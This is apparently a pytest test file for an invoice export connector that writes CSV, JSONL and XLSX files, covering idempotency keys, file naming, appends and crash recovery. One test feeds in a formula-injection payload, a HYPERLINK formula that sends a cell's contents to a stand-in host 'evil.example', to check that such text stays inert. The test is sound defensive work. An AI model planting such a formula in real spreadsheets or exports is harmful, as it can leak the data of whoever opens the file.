from __future__ import annotations

import json
from datetime import date
from decimal import Decimal

import pytest

from backoffice.connectors.base import Context
from backoffice.connectors.files import FilesSettings, FilesTarget
from backoffice.documents.models import Field
from backoffice.errors import BusinessError
from backoffice.queue.base import NewItem
from backoffice.queue.files import FileStore
from backoffice.queue.memory import MemoryStore
from tests.fakes import invoice


@pytest.fixture
def context(tmp_path):
    return Context(bot="invoices", workspace=tmp_path, files=FileStore(tmp_path / "files"), run="run-1")


@pytest.fixture
def items():
    store = MemoryStore()
    return [store.enqueue(NewItem("invoices", f"k{n}"))[0] for n in range(3)]


def target(context, **settings) -> FilesTarget:
    return FilesTarget(FilesSettings(kind="files", **settings), context)


def test_xlsx_has_typed_cells_a_lines_sheet_and_each_item_once(context, items, tmp_path):
    from openpyxl import load_workbook

    document = invoice()
    document.lines = [{"description": Field("Widget"), "amount": Field("100.00")}]
    xlsx = target(context, path="out/invoices.xlsx")
    assert xlsx.post(items[0], document) == f"out/invoices.xlsx#{xlsx.idempotency_key(items[0])}"
    xlsx.post(items[0], document)  # again: nothing new
    xlsx.post(items[1], invoice(invoice_number="INV-2"))
    book = load_workbook(tmp_path / "out" / "invoices.xlsx")
    rows = list(book["documents"].iter_rows(values_only=True))
    header = rows[0]
    assert header[:4] == ("item_id", "idempotency_key", "kind", "source")
    first = dict(zip(header, rows[1], strict=True))
    assert (first["item_id"], first["grand_total"], first["issue_date"].date()) == (items[0].id, 119, date(2026, 1, 10))
    assert [r[0] for r in rows[1:]] == [items[0].id, items[1].id]
    lines = list(book["lines"].iter_rows(values_only=True))
    assert lines[0][:2] == ("item_id", "description") and lines[1][:2] == (items[0].id, "Widget")
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["invoices.xlsx"]


def test_one_file_per_run_and_lookup_finds_an_item_in_any_of_them(context, items, tmp_path):
    per_run = target(context, path="out/run-{run}.jsonl")
    per_run.post(items[0], invoice())
    context.run = "run-2"
    per_run.post(items[1], invoice())
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["run-run-1.jsonl", "run-run-2.jsonl"]
    assert per_run.lookup(items[0], invoice()) == f"out/run-run-1.jsonl#{per_run.idempotency_key(items[0])}"
    assert per_run.lookup(items[2], invoice()) is None


def test_one_file_per_item_named_by_its_fields(context, items, tmp_path):
    per_item = target(context, path="out/{seller_name}/{invoice_number}.json", format="jsonl",
                      columns={"number": "invoice_number", "total": {"field": "grand_total", "type": "number"}})  # fmt: skip
    ref = per_item.post(items[0], invoice(invoice_number="2026/17"))
    key = per_item.idempotency_key(items[0])
    assert ref == f"out/Acme_GmbH/2026_17.json#{key}"
    record = json.loads((tmp_path / "out" / "Acme_GmbH" / "2026_17.json").read_text())
    assert record == {"item_id": items[0].id, "idempotency_key": key, "number": "2026/17", "total": "119.00"}
    with pytest.raises(BusinessError, match="invoice_number is empty"):
        per_item.post(items[1], invoice(invoice_number=None))


def test_csv_keeps_extracted_strings(context, items, tmp_path):
    import csv

    target(context, path="out/a.csv").post(items[0], invoice(grand_total="119.00"))
    [row] = list(csv.DictReader((tmp_path / "out" / "a.csv").open()))
    assert row["grand_total"] == "119.00" and row["item_id"] == str(items[0].id)
    assert Decimal(row["grand_total"]) == Decimal("119.00")


def test_texts_that_would_run_as_formulas_stay_text_in_csv_and_xlsx(context, items, tmp_path):
    import csv

    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    document = invoice(seller_name=hostile, invoice_number="@SUM(1+1)", grand_total="-12.50")
    document.lines = [{"description": Field("=1+2"), "amount": Field("-12.50")}]
    target(context, path="out/a.csv").post(items[0], document)
    [row] = list(csv.DictReader((tmp_path / "out" / "a.csv").open()))
    assert (row["seller_name"], row["invoice_number"]) == ("'" + hostile, "'@SUM(1+1)")
    assert row["grand_total"] == "-12.50"  # a negative amount is a number, not a formula

    target(context, path="out/a.xlsx").post(items[0], document)
    book = load_workbook(tmp_path / "out" / "a.xlsx")
    header, first = book["documents"].iter_rows(max_row=2)
    cell = {h.value: c for h, c in zip(header, first, strict=True)}["seller_name"]
    assert (cell.data_type, cell.value) == ("s", hostile)
    description = book["lines"].cell(row=2, column=2)
    assert (description.data_type, description.value) == ("s", "=1+2")


@pytest.mark.parametrize("name", ["out/a.csv", "out/a.jsonl", "out/a.xlsx"])
def test_records_are_known_by_their_key_not_by_item_id_so_a_fresh_queue_writes_its_items(context, tmp_path, name):
    """A lost queue.db: new items 1..N reuse the old item ids, but they are other documents."""
    old = [MemoryStore().enqueue(NewItem("invoices", f"old-{n}"))[0] for n in range(5)]
    fresh = [MemoryStore().enqueue(NewItem("invoices", f"new-{n}"))[0] for n in range(5)]
    assert [i.id for i in old] == [i.id for i in fresh]
    files = target(context, path=name)
    for item in old + fresh:
        files.post(item, invoice(invoice_number=item.source_key))
    again = target(context, path=name)  # another runner: the same documents again write nothing
    for item in old:
        again.post(item, invoice(invoice_number=item.source_key))
    assert sorted(_numbers(tmp_path / name)) == sorted(i.source_key for i in old + fresh)
    assert again.lookup(fresh[2], invoice()) is not None


def _numbers(path) -> list[str]:
    import csv

    from openpyxl import load_workbook

    if path.suffix == ".csv":
        return [row["invoice_number"] for row in csv.DictReader(path.open())]
    if path.suffix == ".jsonl":
        return [json.loads(line)["invoice_number"] for line in path.read_text().splitlines()]
    rows = list(load_workbook(path)["documents"].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True))["invoice_number"] for row in rows[1:]]


@pytest.mark.parametrize("name", ["out/a.csv", "out/a.jsonl"])
def test_csv_and_json_lines_are_appended_not_rewritten(context, items, tmp_path, name):
    files = target(context, path=name)
    files.post(items[0], invoice())
    path = tmp_path / name
    inode, before = path.stat().st_ino, path.read_bytes()
    files.post(items[1], invoice(invoice_number="INV-2"))
    assert path.stat().st_ino == inode and path.read_bytes().startswith(before)  # the same file, grown
    reads = []
    original = files.writer.keys
    files.writer = type(files.writer)()
    files.writer.keys = lambda p, offset=0: reads.append(offset) or original(p, offset)
    files.post(items[2], invoice(invoice_number="INV-3"))
    assert reads and min(reads) > 0  # only the end that was added since, never the whole file again


@pytest.mark.parametrize("name", ["out/a.csv", "out/a.jsonl"])
def test_a_record_torn_by_a_crash_is_cut_off_and_the_item_written_again(context, items, tmp_path, name):
    files = target(context, path=name)
    files.post(items[0], invoice())
    path = tmp_path / name
    whole = path.read_bytes()
    files.post(items[1], invoice(invoice_number="INV-2"))
    path.write_bytes(path.read_bytes()[: len(whole) + 20])  # killed mid-write: half a record
    again = target(context, path=name)
    assert again.lookup(items[1], invoice()) is None  # the torn record does not count
    again.post(items[1], invoice(invoice_number="INV-2"))
    assert _numbers(path) == ["INV-1", "INV-2"]


def test_temporary_files_of_a_killed_runner_are_deleted_at_start(context, items, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    left = [out / ".invoices.xlsx.abcd1234", out / ".run-7.xlsx.x_y9ZZ00"]
    for path in left:
        path.write_bytes(b"half a workbook")
    others = [out / ".keep-me", out / "invoices.xlsx.abcd1234", out / ".notes.txt.abcd1234"]
    for path in others:
        path.write_bytes(b"not ours")
    target(context, path="out/invoices.xlsx")
    target(context, path="out/run-{run}.xlsx")
    assert not any(p.exists() for p in left) and all(p.exists() for p in others)
